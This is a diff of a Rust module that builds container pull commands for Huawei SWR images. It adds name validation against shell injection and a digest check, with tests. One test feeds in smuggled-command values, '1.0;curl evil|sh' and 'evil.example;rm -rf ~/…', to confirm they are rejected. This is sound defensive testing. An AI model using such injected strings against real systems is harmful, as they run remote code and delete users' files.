@@ -1,6 +1,8 @@
 //! Pull commands and image references for the current tag.
 
+use super::digest::Digest;
 use super::rows::TagRow;
+use crate::swr::validate;
 
 /// The variants the pull-command menu offers, in menu order.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -35,7 +37,7 @@ impl PullKind {
     }
 }
 
-/// Where the image lives: what the tag's `path` says, else the profile's registry host.
+/// Where the image lives: the host the tag's `path` names, else the profile's registry host.
 pub struct ImageRef<'a> {
     pub registry: &'a str,
     pub org: &'a str,
@@ -44,13 +46,17 @@ pub struct ImageRef<'a> {
 }
 
 impl ImageRef<'_> {
+    /// The registry host the service names for this tag, else the profile's.
     fn registry(&self) -> &str {
-        self.tag
-            .path
-            .split_once('/')
-            .map(|(host, _)| host)
-            .filter(|h| !h.is_empty())
-            .unwrap_or(self.registry)
+        self.tag.hosts.registry.as_deref().unwrap_or(self.registry)
+    }
+
+    /// Whether every part is a name the service could have made: the text goes into a shell,
+    /// and a server must not be able to put a command there.
+    pub fn check(&self) -> Result<(), String> {
+        validate::namespace_name(self.org)?;
+        validate::repository_name(self.repo)?;
+        validate::tag_name(&self.tag.tag)
     }
 
     /// `<registry>/<org>/<repo>:<tag>`
@@ -64,27 +70,45 @@ impl ImageRef<'_> {
         )
     }
 
-    /// `<registry>/<org>/<repo>@sha256:…`
-    pub fn by_digest(&self) -> String {
-        format!(
-            "{}/{}/{}@{}",
-            self.registry(),
-            self.org,
-            self.repo,
-            self.tag.digest
-        )
+    /// `<registry>/<org>/<repo>@sha256:…`, when the digest is one.
+    pub fn by_digest(&self) -> Option<String> {
+        matches!(self.tag.digest, Digest::Sha256(_)).then(|| {
+            format!(
+                "{}/{}/{}@{}",
+                self.registry(),
+                self.org,
+                self.repo,
+                self.tag.digest
+            )
+        })
+    }
+
+    /// The address cloud clusters pull from, when the service names its host.
+    pub fn internal(&self) -> Option<String> {
+        let host = self.tag.hosts.internal.as_deref()?;
+        Some(format!(
+            "{host}/{}/{}:{}",
+            self.org, self.repo, self.tag.tag
+        ))
+    }
+
+    /// The command to copy, once [`ImageRef::check`] passes and the kind has what it needs.
+    pub fn copyable(&self, kind: PullKind) -> Result<String, String> {
+        self.check()?;
+        if kind == PullKind::Digest && self.by_digest().is_none() {
+            return Err(format!("{} has no sha256 digest to pull by", self.tag.tag));
+        }
+        Ok(self.command(kind))
     }
 
     pub fn command(&self, kind: PullKind) -> String {
+        let pull = |address: String| format!("docker pull {address}");
         match kind {
-            PullKind::Docker => format!("docker pull {}", self.by_tag()),
+            PullKind::Docker => pull(self.by_tag()),
             PullKind::Podman => format!("podman pull {}", self.by_tag()),
             PullKind::Nerdctl => format!("nerdctl pull {}", self.by_tag()),
-            PullKind::Digest => format!("docker pull {}", self.by_digest()),
-            PullKind::Internal if !self.tag.internal_path.is_empty() => {
-                format!("docker pull {}", self.tag.internal_path)
-            }
-            PullKind::Internal => format!("docker pull {}", self.by_tag()),
+            PullKind::Digest => pull(self.by_digest().unwrap_or_else(|| self.by_tag())),
+            PullKind::Internal => pull(self.internal().unwrap_or_else(|| self.by_tag())),
             PullKind::Kubernetes => format!("image: {}", self.by_tag()),
         }
     }
@@ -98,7 +122,7 @@ mod tests {
     fn tag(path: &str) -> TagRow {
         TagRow::from(Tag {
             tag: "1.0".into(),
-            digest: "sha256:abc".into(),
+            digest: format!("sha256:{}", "ab".repeat(32)),
             path: path.into(),
             internal_path: "10.125.0.198:20202/demo/team/web:1.0".into(),
             ..Tag::default()
@@ -121,7 +145,10 @@ mod tests {
                 "docker pull swr.ap-southeast-3.myhuaweicloud.com/demo/team/web:1.0",
                 "podman pull swr.ap-southeast-3.myhuaweicloud.com/demo/team/web:1.0",
                 "nerdctl pull swr.ap-southeast-3.myhuaweicloud.com/demo/team/web:1.0",
-                "docker pull swr.ap-southeast-3.myhuaweicloud.com/demo/team/web@sha256:abc",
+                &format!(
+                    "docker pull swr.ap-southeast-3.myhuaweicloud.com/demo/team/web@sha256:{}",
+                    "ab".repeat(32)
+                ),
                 "docker pull 10.125.0.198:20202/demo/team/web:1.0",
                 "image: swr.ap-southeast-3.myhuaweicloud.com/demo/team/web:1.0",
             ]
@@ -141,5 +168,40 @@ mod tests {
             r.command(PullKind::Docker),
             "docker pull swr.cn-north-4.myhuaweicloud.com/demo/nginx:1.0"
         );
+    }
+
+    #[test]
+    fn names_a_server_made_up_are_never_copied() {
+        let mut t = tag("swr.cn-north-4.myhuaweicloud.com/demo/web:1.0");
+        let r = |t: &TagRow| {
+            ImageRef {
+                registry: "swr.cn-north-4.myhuaweicloud.com",
+                org: "demo",
+                repo: "web",
+                tag: t,
+            }
+            .copyable(PullKind::Docker)
+        };
+        assert!(r(&t).is_ok());
+        t.tag = "1.0;curl evil|sh".into();
+        assert!(r(&t).unwrap_err().contains("must not contain"));
+        let evil_host = tag("evil.example;rm -rf ~/demo/web:1.0");
+        assert_eq!(
+            evil_host.hosts.registry, None,
+            "not a host name: the profile's is used"
+        );
+        let no_digest = TagRow::from(Tag {
+            tag: "1.0".into(),
+            digest: "sha256:short".into(),
+            ..Tag::default()
+        });
+        let by_digest = ImageRef {
+            registry: "swr.cn-north-4.myhuaweicloud.com",
+            org: "demo",
+            repo: "web",
+            tag: &no_digest,
+        }
+        .copyable(PullKind::Digest);
+        assert!(by_digest.unwrap_err().contains("no sha256 digest"));
     }
 }
